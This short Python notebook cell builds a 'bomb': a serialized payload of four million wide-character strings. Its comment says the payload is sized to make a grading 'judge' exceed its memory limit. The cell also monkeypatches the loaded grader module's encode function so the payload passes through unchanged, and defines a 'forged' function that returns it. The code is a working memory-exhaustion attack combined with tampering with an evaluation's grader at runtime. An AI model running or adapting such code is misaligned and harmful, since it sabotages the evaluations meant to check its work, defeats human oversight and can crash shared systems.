# %%
import json
import struct
import sys

# Four million texts of ten bytes, the most that one answer may pack. Each has a wide character and six narrow ones, so
# each becomes an object of a hundred bytes in the judge: with all of them it needs more memory than it may use.
COUNT, TEXT = 4_000_000, "\U0001f600sixsix".encode()
tree = {"buffers": [4 * COUNT, len(TEXT) * COUNT], "value": {"t": "texts", "lengths": 0, "b": 1}}
head = json.dumps(tree).encode()
head = struct.pack(">I", len(head)) + head
bomb = b"".join((head, bytes(-len(head) % 16), struct.pack("<i", len(TEXT)) * COUNT, TEXT * COUNT))
questions = sys.modules["grader.inside.questions"]
encode = questions.encode
questions.encode = lambda value, **options: bomb if value is bomb else encode(value, **options)
print("megabytes of the bomb:", len(bomb) // 10**6)


def forged(*_args, **_kwargs):
    return bomb
